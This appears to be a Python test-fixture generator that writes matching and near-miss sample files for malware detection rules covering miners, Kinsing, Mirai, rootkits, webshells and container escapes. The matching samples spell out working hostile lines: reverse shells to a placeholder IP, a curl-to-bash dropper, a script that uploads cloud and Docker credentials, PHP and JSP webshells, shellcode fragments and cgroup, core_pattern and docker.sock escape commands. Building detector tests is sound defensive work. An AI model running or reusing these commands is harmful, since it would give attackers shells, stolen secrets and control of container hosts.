#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""rule_samples.py DIR: for each rule of image/rules/ harmless files that it must find, DIR/hit/RULE.N, and files that
come close and that no rule may find, DIR/miss/RULE.N. None of them runs: the programs are a header and words.
"""

import os
import struct
import sys


def elf(*words, kind=2, sections=1):
    """An ELF header of a 64-bit program, and after it these words; nothing that could be started."""
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    head = ident + struct.pack("<HHIQQQIHHHHHH", kind, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, sections, 0)
    return head + b"".join(w + b"\0" for w in (x.encode("latin-1") for x in words)) + bytes(8192)


def text(*lines):
    return "\n".join(lines).encode() + b"\n"


def script(*lines):
    return text("#!/bin/sh", *lines)


WALLET = "48" + "A" * 93
SAMPLES = {
    "miner_program": (
        [elf("stratum+tcp://", "RandomX", "donate-level", "huge-pages-jit")],
        [elf("stratum+tcp://", "a client of the Stratum protocol", "donate-level"),
         text("xmrig speaks stratum+tcp:// and knows RandomX; donate-level, huge-pages-jit")]),
    "miner_config": (
        [text('{"donate-level": 1, "pools": [{"algo": "rx/0", "url": "pool.example:3333",', f'"user": "{WALLET}"}}]}}')],
        [text('{"pools": [{"url": "db.example:5432", "user": "application1", "max": 10}]}')]),
    "miner_login": (
        [text('{"id":1,"method":"login","params":{"agent":"XMRig/6.21.0","algo":["rx/0"]}}')],
        [text('{"id":1,"method":"login","params":{"agent":"Mozilla/5.0","user":"a"}}')]),
    "dropper_script": (
        [script("setenforce 0", "pkill -f kdevtmpfsi", "(curl -s http://192.0.2.1/d.sh || true) | bash"),
         script("ufw disable", "chmod 777 /tmp/k", "(crontab -l; echo '* * * * * /tmp/k') | crontab -")],
        [script("setenforce 0", "dnf -y update"),
         script("curl -fsSL https://get.example/install.sh | sh"),
         script("(crontab -l; echo '0 3 * * * /usr/bin/backup') | crontab -")]),
    "kinsing_program": (
        [elf("main.minRun", "main.redisBrute", "main.masscan", "kdevtmpfsi")],
        [elf("main.run", "main.healthChecker", "main.download"), elf("main.masscan", "kdevtmpfsi")]),
    "credential_script": (
        [script("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >o",
                "cat ~/.aws/credentials ~/.docker/config.json >>o", "curl -F file=@o http://192.0.2.1/up")],
        [script("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
         script("test -e ~/.aws/credentials || aws configure", "docker --config ~/.docker/config.json ps")]),
    "webshell_php": (
        [text("<?php @eval($_POST['x']); ?>"), text("<?php system($_GET['c']);"),
         text("<?php eval(gzinflate(base64_decode('AAAA')));"), text("<?= $_GET['f']($_POST['a']) ?>")],
        [text("<?php echo htmlspecialchars($_POST['name']); system('ls'); ?>"),
         text("<?php $x = base64_decode($_GET['id']); evaluate($x); ?>"), text("eval($_POST[x]) # not PHP")]),
    "webshell_jsp": (
        [text('<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>')],
        [text('<% out.println(request.getParameter("name")); %>'), text("Runtime.getRuntime().exec(command); // Java")]),
    "reverse_shell_text": (
        [script("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
         script("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f"),
         script("nc 192.0.2.1 4444 -e /bin/sh"),
         text('import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'),
         text('perl -e \'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(4444,inet_aton("192.0.2.1")));open(STDIN,">&S");exec("sh");\''),
         text("socat exec:'bash -li',pty,stderr,setsid tcp:192.0.2.1:4444")],
        [script("exec 3<>/dev/tcp/127.0.0.1/8080", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3", "cat <&3"),
         script("bash -i", "nc -z db.example 5432", "mkfifo /tmp/queue"),
         text("import socket", "s = socket.socket()", 's.connect(("127.0.0.1", 80))', "print(s.recv(10))")]),
    "reverse_shell_code": (
        [bytes(100) + bytes.fromhex("6a2958996a025f6a015e0f05489748b90200115cc0000201"),
         bytes(7) + bytes.fromhex("31dbf7e3534353" "6a0289e1b066cd80"),
         b"x" * 99 + bytes.fromhex("6a3b589948bb2f62696e2f736800534889e7")],
        [bytes.fromhex("6a2958990f05") + bytes(64), b"/bin/sh\0execve\0socket\0"]),
    "bpfdoor": (
        [elf("/var/run/haldrund.pid", "/sbin/udevd -d", "hald-runner"),
         elf("/sbin/udevd -d", "hald-runner", "qmgr -l -t fifo -u", "pickup -l -t fifo -u")],
        [elf("/sbin/udevd -d", "dbus-daemon --system"), text("/var/run/haldrund.pid /sbin/udevd -d hald-runner")]),
    "irc_bot": (
        [elf("NOTICE %s :TSUNAMI <target> <secs>\n", "NOTICE %s :Killing pid %d.\n")],
        [elf("NOTICE %s :%s", "PRIVMSG %s :TSUNAMI")]),
    "mirai": (
        [elf("TSource Engine Query", "/dev/misc/watchdog"), elf("TSource Engine Query", "/bin/busybox DVRHELPER", ": applet not found")],
        [elf("TSource Engine Query", "a server browser"), elf("/dev/misc/watchdog", "/bin/busybox ls", ": applet not found")]),
    "xorddos": ([elf("BB2FA36AAA9541F0", "/var/run/gcc.pid")], [elf("BB2FA36AAA9541F0"), elf("/lib/udev/udev")]),
    "remote_control_go": (
        [elf("github.com/bishopfox/sliver/implant/sliver/transports")], [text("see github.com/bishopfox/sliver/ for more")]),
    "tunnel_go": ([elf("github.com/jpillora/chisel/client")], [text("go install github.com/jpillora/chisel/@latest")]),
    "preload_hider": (
        [elf("dlsym", "readdir64", "readdir", "/proc/self/fd/%d", "/proc/%s/stat", kind=3)],
        [elf("dlsym", "readdir64", "readdir", "/proc/self/fd/%d", kind=3),
         elf("/lib64/ld-linux-x86-64.so.2", "dlsym", "readdir64", "readdir", "/proc/self/fd/%d", "/proc/%s/stat", kind=3)]),
    "kernel_rootkit": (
        [elf("vermagic=6.1.0", "hacked_kill", "module_hide", "give_root", kind=1)],
        [elf("vermagic=6.1.0", "module_hide", kind=1), elf("hacked_kill", "module_hide", "give_root")]),
    "escape_release_agent": (
        [script("mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c", "echo 1 >/tmp/c/x/notify_on_release",
                "echo $p/cmd >/tmp/c/release_agent", "sh -c 'echo $$ >/tmp/c/x/cgroup.procs'")],
        [script("cat /sys/fs/cgroup/memory/release_agent /sys/fs/cgroup/memory/notify_on_release"),
         elf("release_agent", "notify_on_release", "cgroup.procs", "mount -t cgroup x")]),
    "escape_core_pattern": (
        [script("p=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts)", 'echo "|$p/x" >/proc/sys/kernel/core_pattern')],
        [script("echo core.%p >/proc/sys/kernel/core_pattern"), script("echo '|/usr/lib/systemd/systemd-coredump %P' >/proc/sys/kernel/core_pattern")]),
    "escape_to_host_namespaces": (
        [script("nsenter -t 1 -m -u -i -n sh"), script("chroot /host /bin/sh -c id"),
         script("mount /dev/sda1 /mnt", "echo key >>/mnt/root/.ssh/authorized_keys"),
         script("curl --unix-socket /var/run/docker.sock -d '{\"Binds\":[\"/:/h\"]}' http://d/containers/create",
                "docker run -v /:/h alpine chroot /h")],
        [script("nsenter -t 4711 -n ip addr"), script("chroot /srv/jail /bin/sh"), script("mount /dev/sda1 /mnt && ls /mnt"),
         script("docker run -v /data:/data alpine ls")]),
    "escape_tool": (
        [elf("docker-sock-pwn", "shim-pwn", "k8s-backdoor-daemonset"), script("# deepce.sh", "# Docker Enumeration, Escalation of Privileges and Container Escapes")],
        [elf("mount-cgroup", "shim"), text("deepce.sh")]),
    "escape_runc_overwrite": (
        [elf("#!/proc/self/exe", "/proc/self/fd/%d", "runc")], [elf("/proc/self/exe", "/proc/self/fd/%d", "runc")]),
    "fileless_script": (
        [text("#!/usr/bin/perl", "my $fd = syscall(319, $n, 1);", "open(my $f, '>&='.$fd);", 'exec {"/proc/$$/fd/$fd"} "x";'),
         text("#!/usr/bin/python3", "import os", "fd = os.memfd_create('x')", "os.execve('/proc/self/fd/%d' % fd, ['x'], {})"),
         script("read a </proc/self/maps", "dd of=/proc/self/mem bs=1 seek=$((0x$a)) conv=notrunc")],
        [text("#!/usr/bin/perl", "my $r = syscall(1, 2, 3);", "exec {'/bin/ls'} 'ls';"),
         script("dd if=/dev/zero of=x bs=1 seek=10", "cat /proc/self/maps")]),
    "loader_program": (
        [elf("memfd_create", "fexecve", "GET /p HTTP/1.1\r\n", "[kworker/0:1]")],
        [elf("memfd_create", "fexecve", "[kworker/0:1]"), elf("memfd_create", "execveat", "GET / HTTP/1.0\r\n")]),
    "packed_upx": (
        [elf("", "UPX!"), elf("$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n")],
        [text("UPX! is a word here"), elf(*["x" * 1024] * 2, "UPX!")]),
    "elf_without_sections": ([elf("x", sections=0)], [elf("x"), elf("core", kind=4, sections=0)]),
}


def main():
    top = sys.argv[1]
    for kind, index in (("hit", 0), ("miss", 1)):
        os.makedirs(os.path.join(top, kind))
        for rule, both in SAMPLES.items():
            for n, data in enumerate(both[index]):
                with open(os.path.join(top, kind, f"{rule}.{n}"), "wb") as f:
                    f.write(data)


if __name__ == "__main__":
    main()
